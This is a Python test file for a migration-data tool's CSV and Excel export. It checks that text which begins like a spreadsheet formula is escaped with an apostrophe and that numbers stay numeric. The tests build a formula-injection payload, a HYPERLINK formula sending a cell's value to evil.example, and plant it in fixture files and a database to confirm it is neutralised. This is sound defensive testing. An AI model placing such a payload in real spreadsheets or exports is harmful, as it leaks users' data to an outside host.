"""The one writer of CSV and Excel cells (migcap.sheets): user text is written as text in every export,
numbers stay numbers, and what migcap wrote reads back unchanged."""

from __future__ import annotations

import csv
import io
import warnings
from collections.abc import Iterator
from functools import partial
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from migcap.cli import main
from migcap.errors import MigcapError
from migcap.sheets import (
    FORMULA_START,
    csv_text,
    csv_text_sql,
    csv_value,
    looks_like_formula,
    to_xlsx,
)
from migcap.table import Table
from tests.cli import invoke

run = partial(invoke, main)

EVIL = '=HYPERLINK("http://evil.example/?leak="&B2,"Click")'
# texts that start like a formula, with apostrophes in front of them, and ordinary ones
TEXTS = st.one_of(st.text(), st.builds(lambda p, q, s: p + q + s, st.sampled_from(["", "'", "''"]),
                                       st.sampled_from(sorted(FORMULA_START)), st.text()))
XML_TEXT = st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\ufffe\uffff"
                                 + "".join(chr(c) for c in range(32) if chr(c) not in "\t\n\r")))


def _csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _sheet(data: bytes, name: str = "data") -> Any:
    return openpyxl.load_workbook(io.BytesIO(data))[name]


# ------------------------------------------------------------------------------------------ the rule


@pytest.mark.parametrize("text,cell", [
    (EVIL, "'" + EVIL), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
    ("\rx", "'\rx"),
    ("'=x", "''=x"), ("Kenya", "Kenya"), ("'quoted'", "'quoted'"), ("a=b", "a=b"), ("", ""), ("'", "'"),
])
def test_csv_text_prefixes_exactly_the_texts_that_start_like_a_formula(text: str, cell: str) -> None:
    assert csv_text(text) == cell and csv_value(cell) == text


@given(TEXTS)
def test_a_csv_cell_reads_back_as_the_text_written(text: str) -> None:
    written = csv_text(text)
    assert csv_value(written) == text and written[:1] not in FORMULA_START  # never starts like a formula
    (header, row) = _csv_rows(Table(("a",), ((text,),)).to_csv())
    assert header == ["a"] and csv_value(row[0] if row else "") == text


@settings(max_examples=60)
@given(st.lists(TEXTS, min_size=1, max_size=20))
def test_the_database_writes_csv_cells_by_the_same_rule(texts: list[str]) -> None:
    import duckdb

    con = duckdb.connect()
    con.execute("CREATE TABLE t (i INTEGER, name VARCHAR)")
    con.executemany("INSERT INTO t VALUES (?, ?)", list(enumerate(texts)))
    column = '"name"'
    query = f"SELECT {csv_text_sql(column)} FROM t ORDER BY i"
    got = [r[0] for r in con.execute(query).fetchall()]
    assert got == [csv_text(x) for x in texts]


def test_numbers_are_never_prefixed_and_texts_always_are() -> None:
    t = Table(("area", "deviation_pct", "n", "flag"),
              ((EVIL, -17.8, -3, True), ("-x", float("nan"), None, False)))
    rows = _csv_rows(t.to_csv())
    assert rows[1] == ["'" + EVIL, "-17.8", "-3", "true"] and rows[2] == ["'-x", "", "", "false"]
    ws = _sheet(to_xlsx(t))
    evil, dev, n, flag = ws[2]
    assert (evil.value, evil.data_type, evil.quotePrefix) == (EVIL, "s", True)
    assert (dev.value, dev.data_type, n.value, n.data_type, flag.value) == (-17.8, "n", -3, "n", True)
    assert (ws["A3"].value, ws["A3"].data_type, ws["B3"].value) == ("-x", "s", None)


@settings(max_examples=80, deadline=None)
@given(st.lists(XML_TEXT, min_size=1, max_size=8))
def test_every_text_is_a_typed_string_cell_that_reads_back_unchanged(texts: list[str]) -> None:
    ws = _sheet(to_xlsx(Table(("text",), tuple((x,) for x in texts))))
    cells = [ws.cell(r, 1) for r in range(2, len(texts) + 2)]
    assert all(c.data_type == "s" or (c.value is None and x == "") for c, x in zip(cells, texts, strict=True))
    # XML keeps a carriage return as a line feed: texts in the database have line feeds only (clean_text)
    assert [c.value or "" for c in cells] == [x.replace("\r\n", "\n").replace("\r", "\n") for x in texts]


def test_texts_an_excel_cell_cannot_hold_are_refused_with_their_place() -> None:
    with pytest.raises(MigcapError, match=r"sheet 'data', row 3, column 'B'.*character that an Excel file"):
        to_xlsx(Table(("a", "b"), (("ok", "ok"), ("ok", "bad\x00"))))
    with pytest.raises(MigcapError, match=r"row 2, column 'A'.*does not fit in an Excel cell"):
        to_xlsx(Table(("a",), (("x" * 40_000,),)))
    assert looks_like_formula("'-") and not looks_like_formula("''")


# ------------------------------------------------------------------------------------------ every export

@pytest.fixture()
def hostile_scheme(tmp_path: Path) -> Path:
    f = tmp_path / "evil.csv"
    quoted = '"' + EVIL.replace('"', '""') + '"'
    f.write_text(f"country,code,name\nKenya,EAC,{quoted}\nUganda,EAC,{quoted}\nFrance,-EU,-Europe\n")
    return f


def test_region_names_of_a_user_scheme_are_text_in_stocks_csv_and_xlsx(con: object, hostile_scheme: Path,
                                                                      capsys: pytest.CaptureFixture[str],
                                                                      tmp_path: Path) -> None:
    code, out, _ = run(capsys, "stocks", "--by", "region", "--scheme", str(hostile_scheme), "--year", "2020",
                       "-f", "csv")
    rows = {r[0]: r for r in _csv_rows(out)[1:]}
    assert code == 0 and rows["EAC"][1] == "'" + EVIL and rows["'-EU"][1] == "'-Europe"
    assert float(rows["EAC"][3]) > 0    # the figures are numbers, unprefixed
    target = tmp_path / "s.xlsx"
    code, _, _ = run(capsys, "stocks", "--by", "region", "--scheme", str(hostile_scheme), "--year", "2020",
                     "-f", "xlsx", "-o", str(target))
    ws = openpyxl.load_workbook(target)["data"]
    names = {ws.cell(r, 1).value: ws.cell(r, 2) for r in range(2, ws.max_row + 1)}
    assert code == 0 and names["EAC"].value == EVIL and names["EAC"].data_type == "s"
    assert names["-EU"].value == "-Europe" and isinstance(ws.cell(2, 4).value, int | float)


def test_a_negative_deviation_is_a_number_in_crisis_csv(con: object,
                                                         capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = run(capsys, "crisis", "--format", "csv")
    row = dict(zip(*_csv_rows(out)[:2], strict=True))
    assert code == 0 and row["area"] == "World" and float(row["deviation_pct"]) < 0
    assert not row["deviation_pct"].startswith("'")


def test_a_csv_that_migcap_wrote_reads_back_as_a_scheme(con: object, hostile_scheme: Path, tmp_path: Path,
                                                         capsys: pytest.CaptureFixture[str]) -> None:
    from migcap.geo.schemes import load_scheme

    code, out, _ = run(capsys, "stocks", "--by", "region", "--scheme", str(hostile_scheme), "--year", "2020",
                       "-f", "csv")
    rows = _csv_rows(out)
    assert code == 0 and rows[0][:2] == ["area_code", "area"]
    # a scheme made from migcap's own CSV (the region columns as written): the names come back unchanged
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\n")
    w.writerow(["country", "code", "name"])
    for row, country in zip(rows[1:], ("Kenya", "France"), strict=True):
        w.writerow([country, row[0], row[1]])
    again = tmp_path / "again.csv"
    again.write_text(buf.getvalue())
    assert "'-EU,'-Europe" in again.read_text()
    scheme = load_scheme(str(again))
    assert scheme.regions == {"EAC": EVIL, "-EU": "-Europe"}


@pytest.fixture()
def hostile_store(private_store: Path) -> Iterator[Path]:
    import duckdb

    con = duckdb.connect(str(private_store / "warehouse.duckdb"))
    con.execute("UPDATE migrant_stock_published SET name = ? WHERE code = (SELECT min(code) FROM "
                "migrant_stock_published)", [EVIL])
    con.close()
    yield private_store


def test_data_export_csv_quotes_texts_and_keeps_numbers(hostile_store: Path, tmp_path: Path,
                                                        capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "agg.csv"
    code, _, err = run(capsys, "data", "export", "migrant_stock", "--published", "--edition", "2020",
                       "-f", "csv", "-o", str(out))
    rows = _csv_rows(out.read_text())
    header = rows[0]
    evil = [r for r in rows[1:] if r[header.index("name")].endswith(EVIL)]
    assert code == 0 and evil and all(r[header.index("name")] == "'" + EVIL for r in evil), err
    assert float(evil[0][header.index("migrants")]) > 0
    xlsx = tmp_path / "agg.xlsx"
    code, _, _ = run(capsys, "data", "export", "migrant_stock", "--published", "--edition", "2020",
                     "-f", "xlsx", "-o", str(xlsx))
    ws = openpyxl.load_workbook(xlsx)["data"]
    col = [c.value for c in ws[1]].index("name") + 1
    cells = [ws.cell(r, col) for r in range(2, ws.max_row + 1) if ws.cell(r, col).value == EVIL]
    assert code == 0 and cells and all(c.data_type == "s" for c in cells)


def test_web_downloads_write_texts_as_text(private_store: Path, hostile_scheme: Path, tmp_path: Path) -> None:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        from fastapi.testclient import TestClient

    from migcap.web import create_app
    from tests.assess_fixtures import settings as web_settings

    schemes = private_store / "schemes"
    schemes.mkdir()
    (schemes / "evil.csv").write_text(hostile_scheme.read_text())
    with TestClient(create_app(web_settings(tmp_path))) as client:
        r = client.get("/api/v1/stocks?by=region&scheme=evil&year=2020&format=csv")
        assert r.status_code == 200, r.text[:300]
        rows = {row[0]: row for row in _csv_rows(r.text)[1:]}
        assert rows["EAC"][1] == "'" + EVIL and float(rows["EAC"][3]) > 0
        r = client.get("/api/v1/stocks?by=region&scheme=evil&year=2020&format=xlsx")
        ws = _sheet(r.content)
        cell = next(ws.cell(i, 2) for i in range(2, ws.max_row + 1) if ws.cell(i, 1).value == "EAC")
        assert r.status_code == 200 and cell.value == EVIL and cell.data_type == "s"


def test_a_stock_table_that_migcap_wrote_reads_back_for_flow_estimation(tmp_path: Path) -> None:
    from migcap.flows.files import read_place_values, read_stock_table

    stocks = Table(("pob", "por", "stock"), (("-North", "-North", 90.0), ("-North", "+South", 10.0),
                                             ("+South", "+South", 95.0), ("+South", "-North", 5.0)))
    path = tmp_path / "stocks.csv"
    path.write_text(stocks.to_csv())
    assert "'-North,'+South,10" in path.read_text()
    frame = read_stock_table(path)
    assert frame.to_dict("index") == {"-North": {"-North": 90.0, "+South": 10.0},
                                      "+South": {"-North": 5.0, "+South": 95.0}}
    births = tmp_path / "births.csv"
    births.write_text(Table(("place", "value"), (("-North", 12.0), ("+South", -0.0))).to_csv())
    assert read_place_values(births, "births").to_dict() == {"-North": 12.0, "+South": 0.0}
